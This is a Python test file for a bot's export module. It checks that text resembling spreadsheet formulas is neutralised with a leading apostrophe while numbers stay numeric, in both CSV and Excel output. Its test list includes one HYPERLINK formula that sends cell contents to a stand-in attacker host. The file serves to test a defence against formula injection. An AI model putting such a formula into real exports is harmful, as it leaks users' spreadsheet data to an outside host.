"""Exports: text a spreadsheet would run as a formula is written as text, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from bot import exports

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    """Each of `=`, `+`, `-`, `@`, tab and CR at the start is neutralised with a leading `'`."""
    assert exports.neutralise(text) == "'" + text


def test_ordinary_text_numbers_and_empty_cells_are_untouched() -> None:
    """Plain text, a formula sign further in, negative numbers and None pass unchanged."""
    row = exports.safe_row(["KIM Raci Maju", "a=b", -1001234567, -7.5, Decimal("-7.61235"), None])
    assert row == ["KIM Raci Maju", "a=b", -1001234567, -7.5, Decimal("-7.61235"), None]


def test_csv_keeps_negative_numbers_and_neutralises_text() -> None:
    """A negative chat id written as a number reads back as the number; the text gets a `'`."""
    data = exports.csv_bytes(["chat_id", "nama"], [[-1001234567, "=1+1"]], bom=True)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["chat_id", "nama"], ["-1001234567", "'=1+1"]]


def test_workbook_cells_are_strings_not_formulas() -> None:
    """Read back with openpyxl, every dangerous text is a string cell; numbers stay numeric."""
    workbook = Workbook()
    sheet = workbook.active
    exports.append_row(sheet, ["judul"])
    for text in DANGEROUS:
        exports.append_row(sheet, [text, -5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(min_row=2))
    # XML reads a stored carriage return back as a line feed.
    assert [(name.value, name.data_type) for name, _ in rows] == [
        ("'" + text.replace("\r", "\n"), "s") for text in DANGEROUS
    ]
    assert {(number.value, number.data_type) for _, number in rows} == {(-5, "n")}
